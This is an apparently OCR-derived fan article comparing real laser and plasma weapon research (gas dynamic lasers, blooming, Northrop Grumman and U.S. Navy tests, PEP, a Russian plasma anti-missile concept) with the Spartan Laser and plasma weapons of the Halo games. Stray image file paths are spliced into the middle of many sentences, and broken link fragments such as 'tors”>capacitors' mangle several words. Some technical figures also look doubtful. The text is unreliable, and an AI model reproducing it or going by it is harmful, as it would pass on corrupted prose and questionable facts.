Another method of achieving pulsed laser operation is to pump the laser material with a source that is itself pulsed, either through electronic charging in the case of flash lamps, or another laser which is already pulsed. Pulsed pumping was historically used with dye lasers where the inverted population lifetime of a dye molecule was so short that a high energy, fast pump was needed. The way to overcome this problem was to charge up large tors”>capacitors which are then switched todischarge through flashlamps, producing an intense flash.

Gas Dynamic Laser:
Gas Dynamic Laser (GDL) is laser based on differences in relaxation velocities of molecular vibrational states. The laser medium gas has such properties that an energetically lower vibrational state relaxes faster than a higher vibrational state, thus a population inversion is achieved in a particular time.

Pure Gas dynamic lasers usually use a combustion chamber, supersonic expansion nozzle and CO2 as an active laser medium in mixture with nitrogen or helium. Gas dynamic laser could be however pumped not only by combustion, but by any adiabatic expansion of gas. Any hot and compressed gas with appropriate vibrational structure could be utilized.

Explosively pumped gas dynamic laser is a versionof gas dynamic laser pumped by expansion of explosion products. Hexanitrobenzene and/or tetranitromethane with metal powder is preferred explosive. This device could have veryhigh pulse peak power output applicable in laser weapons.

How a Gas Dynamic Laser Functions:

1. Hot compressed gas is generated.
2. Gas expands through subsonic or supersonic expansion nozzle, the temperature of the gas becomes lower and according to maxwell–Boltzmann distribution the gas isn’t in thermodynamic equilibrium until the vibrational states relax.
3. The gas flows through the tube of a particular length for a particular time. In this time lower vibrational state does relax but highervibrational state doesn’t. Thus population inversion is achieved.
4. Gas flows through mirror area where stimulated emission takes place.
5. Gas returns to equilibrium and becomes warm. It must be removed from the laser cavity or it will interfere with the thermodynamics and vibrational state relaxation of the freshly expanded gas.

Operational Advantages of Lasers:
Laser weapons could have several main advantages over conventional weaponry:

  • Laser beams travel at the speed of light, so there is no need (except over very long distances) for users to compensate for target movement when firing over long distances. Consequently, evading a laser after it has been fired is impossible.
  • Because of the extremely high speed of light it is only slightly affected by gravity, so that long range projection requires little compensation. Other aspects such as wind speed can be neglected at most times, unless shooting through an absorption matter.
  • Lasers can change focusing configuration to provide an active area that can be much smaller or larger than projectile weaponry.
  • Given a sufficient power source, laser weapons could essentially have limitless ammunition.
  • Because light has a practically nil ratio (exactly 1/c) of momentum to energy, lasers produce negligible recoil.
  • The operational range of a laser weapon can be much larger than that of a ballistic weapon, depending on atmospheric conditions and power level.

Blooming of a Laser:
Laser beams begin to cause plasma breakdown in the air at energy densities ofaround a megajoule per cubic centimeter. This effect, called “blooming,” causes the laser to defocus and disperse energy into the atmosphere. Blooming can be more severe if there is fog, smoke, or dust in the air.

Reducing blooming:

  • Spread the beam across a large, curved mirror that focuses the power on the target, to keep energy density en route too low for blooming to happen. This requires a large, very precise, fragile mirror, mounted somewhat like a searchlight, requiring bulky machinery to slew themirror to aim the laser.
  • Use a phased array. For typical laser wavelengths this method requires billions of micrometre-size antennae. No way to make these is known. However, carbon nanotubes have been proposed. Phased arrays could theoretically also perform phase-conjugate amplification (see below). Phased arrays do not require mirrors or lenses, can be made flat and thus do not require a turret-like system (as in “spread beam”) to be aimed, though range will suffer at extreme angles (that is, the angle the beam forms to the surface of the phased array).
  • Use a phase-conjugate laser system. Here, a “finder” or “guide” laser illuminates the target. Any mirror-like (“specular”) points on the target reflect light that is sensed by the weapon’s primary amplifier. The weapon then amplifies inverted waves in a positive feedback loop, destroying the target with shockwaves as the specular regions evaporate. This avoids blooming because the waves from the target passed through the blooming, and therefore show the most conductive optical path; this automatically corrects for the distortions caused by blooming. Experimental systems using this method usually use special chemicals to form a “phase-conjugate mirror“. In most systems, the mirror overheats dramatically at weapon-useful power levels.
  • Use a very short pulse that finishes before blooming interferes.
  • Focus multiple lasers of relatively low power on a single target.

High Power Consumption:
One major problem with laser weapons (and directed-energy weapons in general) is their high electric energy requirements. Existing methods of storing, conducting, transforming, and directing energy are inadequate to produce a convenient hand-held weapon. Existing lasers waste much energy as heat, requiring still-bulky cooling equipment to avoid overheating damage. Air cooling could yield an unacceptable delay between shots. These problems, whichseverely limit laser weapon practicality at present, might be offset by:

  1. Cheap high-temperature superconductors to make the weapon more efficient.
  2. More convenient high volume electricity storage/generation. Part of the energy could be used to coolthe device.

Weaponized lasers of the present:
Pulsed Energy Projectile or PEP systems emit an infrared laser pulse which creates rapidly expanding plasma at the target. The resulting sound, shock and electromagnetic waves stun the target and cause pain and temporary paralysis. The weapon is under development and is intended as a non-lethal weapon in crowd control.

• Made by Northrop Grumman:

  • On March 18, 2009 Northrop Grumman announced that its engineers in Redondo Beach had successfully built and tested an electric laser capable of producing a 100-kilowatt ray of light, powerful enough to destroy cruise missiles, artillery, rockets and mortar rounds. An electric laser is theoretically capable, according to Brian Strickland, manager for the United States Army‘s Joint High Power Solid State Laser program, of being mounted in an aircraft, ship, or vehicle because it requires much less space for its supporting equipment than a chemical laser.
  • On April 6, 2011, the U.S. Navy successfully tested a laser gun, manufactured by Northrop Grumman, that was mounted on the former USS Paul Foster, which is currently used as the navy’s test ship. When engaged during the test that occurred off the coast of Central California in the Pacific Ocean test range, the laser gun was documented as having “a destructive effect on a high-speed cruising target,” said Chief of Naval Research Admiral Nevin Carr.[10] While classified, the range of the laser gun is attributed to miles, not yards.
  • Northrop Grumman has announced the availability of a high-energy solid-statelaser weapon system that they call FIRESTRIKE, introduced on 13 November 2008. The system is modular, using 15 kW modules that can be combined to provide various levels of power.

• On 19 July 2010 an anti-aircraft laser described as the Laser Close-In Weapon System was unveiled at the Farnborough Airshow.
• The Mid-Infrared Advanced Chemical Laser (MIRACL) is an experimental U.S. Navy deuterium fluoride laser and was tested against an Air Force satellite in 1997.
• In 2011, the U.S. Navy began to test the Maritime Laser Demonstrator (MLD), a laser for use aboard its warships.
• Personnel Halting and Stimulation Response, or PHaSR, is a non-lethal hand-held weapon developed by the United States Air Force. Its purpose is to “dazzle” or stun a target. It was developed by Air Force’s torate”>Directed Energy Directorate.
• Tactical High Energy Laser (THEL) is a weaponized deuterium fluoride laser developed in a joint research project by Israel and the U.S. It is designed to shoot down aircraft and missiles. See also National missile defense.
• The U.S. Air Force’s Airborne Laser, or Advanced Tactical Laser, is a plan to mount a CO2 gas laser or COIL chemical laser on a modified Boeing 747 to shoot down missiles

The Haloverse utilizes lasers to a varying degree. None is known better than the Spartan Laser, or Splaser as it is known to some. The Splaser is a portable shoulder mounted weapon with precision and highenergy output. It is capable of killing anything up to the largest ground based vehicles in one shot. Though it may take a another shot for vehicles such as a Wraith of Scorpion. The Spartan Laser’s full name is the Weapon/Anti-Vehicle Model 6 Grindell/Galilean Nonlinear Rifle, (abbreviated W/AV M6 G/GNR).

The Spartan Laser is powered by a BA-53635/PLMD non-replaceable battery. Even though the name of the weapons implies use by Spartans, it has been used by ODSTs and marines alike. The Splaser utilizes a laser scope to help the user direct their shot to the intended target. The splaser uses a charging system, similar to real-life pulse lasers. Once charged, the Splaser delivers a devastating directed laser many magnifications higher than is known and/or used presently. Unlike present day lasers, the Splaser makes use of an auditory function to let the user know of impending discharge of the weapon. The total charge time takes roughly 2.5 seconds.

The Splaser is not a one beam weapon. In fact it is several smaller beams shot quickly to give the appearance of one intense beam.

The Spartan Laser though powerful and deadly is limited by the amount of shots it can produce, due to the battery.

It is clear given the information in the factual section that lasers not only exist (and have for some time now), but can also be weaponized. No doubt a laser of today has the same if not more destructive firepower of a Spartan Laser. However, these are huge and no where near ready to be utilized as a shoulder mounted weapon. Given the advances of science in the past century it is reasonably plausible that a weapon such as the Spartan Laser will exist by the time period of the Haloverse.


The Science of Halo, Fact versus Fiction: Plasma Weapons

The following “Facts” were taken from the sources quoted below. The Fictional section is my own interpretation and the summation is again my own interpretation based on the facts andfiction of Plasma as a weapon.

What IS Plasma?
(1) There are three classic states of matter: solid, liquid, and gas; however, plasma is considered by some scientists to be the fourth state of matter because of its unique properties. Ionized refers to presence of one or more free electrons, which are not bound to an atom or molecule. The free electric charges make the plasma electrically conductive so that it responds strongly to electromagnetic fields.

Plasma typically takes the form of neutral gas-like clouds (e.g. stars) or charged ion beams, but may also include dust and grains (called dusty plasmas). They are typically formed by heating and ionizing a gas, stripping electrons away from atoms, thereby enabling the positive and negative charges to move more freely.

The Radio Instrument Building Research Institute under thesupervision of Academician A. Avramenko developed a plasma weapon capable of killing any target at altitudes of up to 50 kilometers.Engineers and scientists of the institute in cooperation with the National Research Institute of Experimental Physics (Arzamas-16), Central Aerohydrodynamic Institute, and Central Machine Building Research Institute prepared a concept of the international experiment Doverie (Trust) for testing of the Russian plasma weapon at the American ABM testing ground in the Pacific Ocean together with the US. The cost of the experiment was estimated at $300 million. According to Academician Avramenko, the plasma antimissile weapon would not only cost tens times less than the American SDI, but would also be much simpler in development and operation. The offered joint project could save expenditures ondevelopment of its own plasma weapon for the US. The plasmoid based on the energy of ground super-high frequency generators or laser (optical) generators creates anionized territory in the trajectory of a warhead and in front of it, and completely disrupts the aerodynamics of the object’s flight, after which a target leaves its trajectory and is ruined by monstrous overloads. The killing effect is delivered to the target at the speed of light.

How the use of Plasma weapons has an affect on the scientific community:
(2) Scientists have reacted angrily to the revelation that the US military is funding development of a weapon intended to deliver an “excrutiating bout of pain” from over a mile away. The “Pulsed Energy Projectile” (PEP) device “fires a laser pulse that generates a burst of expanding plasma when it hits something solid”, the New Scientist explains. If you happen to be that somethingsolid, then you get temporarily incapacitated without suffering permanent injury.

Hand-held Plasma Weapons:
(3) A plasma weapon is any theoretical firearm designed to use plasma (high-energy ionized gas) as a weapon. The plasma is typically intended to be created by superheating lasers or superfrequency devices. Such weapons can be intended to be lethal, causing death by serious burns or the melting of targets, or non-lethal and intended to disrupt electronics using an electromagnetic pulse. While no practical example of such weaponry has been produced, corporations such as Boeing have funded research and development into the technology.

At present, plasma weapons are merely theoretical, as currently they need more power than any handheld device could supply. If small portable fusion reactors are made, one potential source of weapons-grade plasma sources might be a direct tap on a fusion reactor, especially a dense plasma focus,since the natural yield of such a reactor is a hot high-speed plasma beam. Making real plasma weapons will need a major scientific breakthrough, as the concept of plasma-firing weapons is scientifically difficult, for various reasons:

▪ The technology to create plasma toroid”>compact toroids and particle beams is presently far too bulky for anything man-portable. In such a high-performance design, the plasma would have to be stored and created in highly focused magnetic bottles, such as those used in NASA’s toplasma_Rocket”>VASIMR rocket: this design has been suggested as a potential weapon design for future real human-engineered plasma weapons. For simpler designs based on plasma cutting torches, a designer might be able to heat the plasma with an arcjet, if his power source is strong enough.

▪ Using current technology, if a plasma beam was fired in a planetary atmosphere, it would quickly be stopped by atmospheric resistance and would make a short hot flame like a blow torch.
